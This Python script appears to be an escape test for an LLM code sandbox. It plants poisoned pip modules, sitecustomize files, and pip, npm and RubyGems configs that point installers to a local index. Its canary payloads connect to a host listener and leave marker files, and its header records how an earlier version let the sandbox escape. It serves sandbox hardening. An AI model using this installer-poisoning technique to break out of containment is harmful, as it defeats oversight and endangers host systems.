# Escape: poison the package installer, which later runs with network access, from offline code.
# On 9175b1a `install` ran `python3 -m pip` in the host's network namespace with the session's
# environment and the workdir as its directory, so a planted pip/__main__.py ran there and
# reached the host. Plants code everywhere an installer might load it from (the working
# directory, PYTHONPATH, sitecustomize, pip's user config, npm's project config, RubyGems'
# plugins and config); each planted program, if ever run, connects to the host's listener
# (HOST_PORT on each of HOST_IPS) and leaves a file POISONED-<where> in the workdir.
import json, os

work = os.getcwd()
ips = os.environ['HOST_IPS'].split(',')
port = int(os.environ['HOST_PORT'])

def payload(where):
    return (
        'import os, socket\n'
        f'open({work!r} + "/POISONED-{where}", "w").write("ran")\n'
        f'for ip in {ips!r}:\n'
        '    try:\n'
        f'        socket.create_connection((ip, {port}), timeout=1).close()\n'
        '    except OSError:\n'
        '        pass\n'
    )

def plant(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'w') as f:
        f.write(text)

packages = os.path.join(work, '.llm-sandbox/python-packages')
plant(os.path.join(work, 'pip/__main__.py'), payload('cwd-pip'))
plant(os.path.join(work, 'pip/__init__.py'), '')
plant(os.path.join(packages, 'pip/__main__.py'), payload('pythonpath-pip'))
plant(os.path.join(packages, 'pip/__init__.py'), '')
plant(os.path.join(packages, 'sitecustomize.py'), payload('sitecustomize'))
plant(os.path.join(work, 'sitecustomize.py'), payload('cwd-sitecustomize'))
plant(os.path.join(work, 'usercustomize.py'), payload('usercustomize'))
# pip's user configuration: an index of the attacker's and a hook-like option.
plant(os.path.join(work, '.config/pip/pip.conf'), '[global]\nindex-url = http://127.0.0.1:%d/simple\n' % port)
plant(os.path.join(work, '.pip/pip.conf'), '[global]\nindex-url = http://127.0.0.1:%d/simple\n' % port)
# npm's project and user configuration.
plant(os.path.join(work, '.npmrc'), 'registry=http://127.0.0.1:%d/\nignore-scripts=false\n' % port)
# RubyGems: a plugin in the gem home, and a config file.
plant(os.path.join(work, '.llm-sandbox/gems/plugins/evil_plugin.rb'), 'File.write(%r, "ran")\n' % (work + '/POISONED-gem-plugin'))
plant(os.path.join(work, '.gemrc'), 'install: --source http://127.0.0.1:%d/\n' % port)
print('planted')
